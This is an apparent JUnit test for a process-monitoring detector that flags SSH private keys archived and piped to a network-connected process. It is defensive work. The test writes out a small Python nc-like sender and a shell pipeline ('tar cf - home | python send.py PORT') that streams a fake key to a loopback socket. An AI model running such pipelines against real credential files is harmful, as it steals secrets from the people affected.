package io.procguard.ml;

import static org.assertj.core.api.Assertions.assertThat;

import io.procguard.core.process.ProcessRecord;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Schema 22: secrets piped to the network. An archiver walking a directory reads the private key in it, which is a
 * backup's read and no indicator; its output going into a process that holds an inet connection is exfiltration.
 * Real strace, tar, a Python sender standing in for nc, and a sink in this JVM.
 */
class SecretsToTheNetworkTest {
    /** nc HOST PORT in a few lines: connects to argv[1] and sends its stdin. */
    private static final String SENDER = "import socket,sys\n"
            + "s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))\n"
            + "s.sendall(sys.stdin.buffer.read())\n";

    @TempDir
    Path dir;

    @Test
    void anArchiveHoldingAKeyPipedToAConnectedProcessIsCredentialTheftButOtherDataOrARsyncIsNot() throws Exception {
        StraceRuns.assumeStrace();
        StraceRuns.assumePython();
        Files.writeString(dir.resolve("send.py"), SENDER);
        Files.createDirectories(dir.resolve("home/.ssh"));
        Files.writeString(dir.resolve("home/.ssh/id_ed25519"), "-----BEGIN OPENSSH PRIVATE KEY-----\n");
        Files.createDirectories(dir.resolve("docs"));
        Files.writeString(dir.resolve("docs/notes.txt"), "nothing secret\n");
        Path rsync = dir.resolve("rsync");
        Files.copy(TrainedModels.PYTHON.toRealPath(), rsync);
        rsync.toFile().setExecutable(true);
        try (ServerSocket sink = new ServerSocket(0, 4, InetAddress.getLoopbackAddress())) {
            Thread drain = new Thread(() -> {
                for (int i = 0; i < 3; i++) {
                    try (Socket s = sink.accept()) {
                        s.getInputStream().readAllBytes();
                    } catch (IOException ignored) {
                        return;
                    }
                }
            });
            drain.setDaemon(true);
            drain.start();
            String port = Integer.toString(sink.getLocalPort());
            String send = TrainedModels.PYTHON + " send.py " + port;
            List<ProcessRecord> ps = StraceRuns.processes(StraceRuns.trace(dir, StraceRuns.RECOMMENDED, "/bin/sh", "-c",
                    "cd '" + dir + "' && tar cf - home | " + send + " && tar cf - docs | " + send + " x"
                            + " && tar cf - home | ./rsync send.py " + port), new BehaviourFeatures());
            drain.join(10_000);

            List<ProcessRecord> senders = ps.stream().filter(p -> p.argv().contains("send.py")).toList();
            assertThat(senders).extracting(p -> String.join(" ", p.argv().subList(1, p.argv().size())))
                    .containsExactly("send.py " + port, "send.py " + port + " x", "send.py " + port);
            assertThat(senders.get(0).features().get("ind.credential_read")).as("a key's archive sent").isEqualTo(1f);
            assertThat(senders.get(0).evidence()).anySatisfy(l -> assertThat(l).startsWith(
                    "its stdin is a pipe a family member that read a secret file writes into"));
            assertThat(senders.get(1).features().get("ind.credential_read")).as("other data sent").isZero();
            assertThat(senders.get(2).features().get("ind.credential_read")).as("a transfer client (rsync, by name)").isZero();
            assertThat(ps).filteredOn(p -> p.argv().get(0).equals("tar"))
                    .allSatisfy(p -> assertThat(p.features().get("ind.credential_read")).as("tar walking its directory").isZero());
        }
    }
}
